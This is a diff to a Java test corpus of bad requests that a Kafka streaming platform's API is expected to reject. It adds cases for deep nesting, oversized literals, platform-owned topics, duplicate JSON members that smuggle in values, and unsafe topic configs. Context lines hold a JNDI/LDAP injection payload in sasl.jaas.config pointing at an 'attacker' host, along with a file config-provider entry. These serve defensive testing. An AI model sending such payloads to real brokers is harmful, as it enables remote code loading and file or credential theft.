@@ -6,9 +6,11 @@ import java.util.List;
 
 /**
  * Requests that must be refused with a 4xx problem and change nothing: malformed and truncated JSON,
- * wrong types, unknown fields, huge numbers, an oversized body, path tricks, control and shell
- * characters, overlong names, every dangerous Kafka property of SPEC §7, unknown processors and
- * duplicates, across every mutating route.
+ * wrong types, unknown fields, duplicate members, nesting and literals past the input limits, huge
+ * numbers, an oversized body, a definition too large to store, path tricks, control and shell
+ * characters, overlong names, every dangerous Kafka property of SPEC §7, topic configuration values
+ * out of range, topics Kafka or the platform owns, unknown processors and duplicates, across every
+ * mutating route.
  */
 final class BadInputCorpus {
 
@@ -41,6 +43,20 @@ final class BadInputCorpus {
         stream(cases, "deeply nested arrays", "[".repeat(100_000) + "]".repeat(100_000), 0);
         stream(cases, "deeply nested objects in a field", valid.replace("\"sink\"", "\"x\":" + "{\"a\":".repeat(5_000)
                 + "1" + "}".repeat(5_000) + ",\"sink\""), 0);
+        // Issue 16: these gave 500 (a stack overflow) and 4 s of CPU; now refused before any tree is built.
+        String deepSet = pipeline(valid, "[{\"op\":\"set\",\"field\":\"f\",\"value\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}]");
+        stream(cases, "5,000 nested arrays in a set value", deepSet, 400);
+        cases.add(json("5,000 nested arrays in a set value, validated", "POST", "/streams/validate", deepSet, 400));
+        String hugeInteger = valid.replace("{\"name\"", "{\"parallelism\":" + "7".repeat(1_000_000) + ",\"name\"");
+        stream(cases, "a 1 MB integer literal", hugeInteger, 400);
+        cases.add(json("a 1 MB integer literal, validated", "POST", "/streams/validate", hugeInteger, 400));
+        // Issue 16: a valid definition under the 1 MiB body limit whose stored form would not fit the definitions topic.
+        StringBuilder sets = new StringBuilder("[");
+        for (int i = 0; i < 5; i++) {
+            sets.append(i == 0 ? "" : ",").append("{\"op\":\"set\",\"field\":\"f").append(i).append("\",\"value\":\"")
+                    .append("v".repeat(205_000)).append("\"}");
+        }
+        stream(cases, "a definition too large to store", pipeline(valid, sets.append("]").toString()), 413);
         streamBytes(cases, "invalid UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}, 0);
         // Wrong types, unknown fields, numbers out of range.
         stream(cases, "unknown top-level field", valid.replace("}}", "},\"bogus\":true}"), 422);
@@ -108,6 +124,21 @@ final class BadInputCorpus {
         topic(cases, "partitions as text", topic.replace("1}", "\"three\"}"), 0);
         topic(cases, "replication beyond the brokers", topic.replace("}", ",\"replicationFactor\":100}"), 0);
         topic(cases, "existing topic", topic.replace("corpus-topic", input), 409);
+        // Issue 15: topics Kafka or the platform owns, and duplicate members that smuggle one in.
+        for (String owned : List.of("__consumer_offsets", "__transaction_state", "hyperiot-streaming-definitions",
+                "hyperiot-streaming-status", "hyperiot_layer_microservices", "hyperiot-stream-" + existing + "-changelog",
+                "hyperiot-saga-log")) {
+            topic(cases, "create owned topic " + owned, topic.replace("corpus-topic", owned), 403);
+            cases.add(new BadRequest("delete owned topic " + owned, "DELETE", "/kafka/topics/" + owned, null, null, 403));
+        }
+        topic(cases, "duplicate topic name", "{\"name\":\"corpus-topic\",\"name\":\"__consumer_offsets\"}", 400);
+        topic(cases, "duplicate config key", "{\"name\":\"corpus-topic\",\"configs\":{\"retention.ms\":\"86400000\","
+                + "\"retention.ms\":\"1\"}}", 400);
+        for (String config : List.of("\"segment.index.bytes\":\"4\"", "\"flush.messages\":\"1\"", "\"segment.ms\":\"1\"",
+                "\"max.message.bytes\":\"2147483647\"", "\"unclean.leader.election.enable\":\"true\"",
+                "\"retention.ms\":\"1e9\"", "\"min.cleanable.dirty.ratio\":\"0\"", "\"cleanup.policy\":\"none\"")) {
+            topic(cases, "topic config value " + config, topic.replace("}", ",\"configs\":{" + config + "}}"), 422);
+        }
         for (String config : List.of(
                 "\"sasl.jaas.config\":\"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\\"ldap://attacker/x\\\";\"",
                 "\"config.providers\":\"file\"",
@@ -133,6 +164,8 @@ final class BadInputCorpus {
         acl(cases, "principal without a type", acl.replace("User:corpus", "corpus"), 0);
         acl(cases, "missing principal", acl.replace(",\"principal\":\"User:corpus\"", ""), 0);
         acl(cases, "ACL with unknown field", acl.replace("}", ",\"bogus\":1}"), 0);
+        acl(cases, "ACL with a duplicate member", acl.replace("{", "{\"principal\":\"User:*\","), 400);
+        acl(cases, "ACL nested past the limit", acl.replace("}", ",\"x\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"), 400);
         cases.add(new BadRequest("delete every ACL (no filter)", "DELETE", "/kafka/acls", null, null, 422));
         return cases;
     }
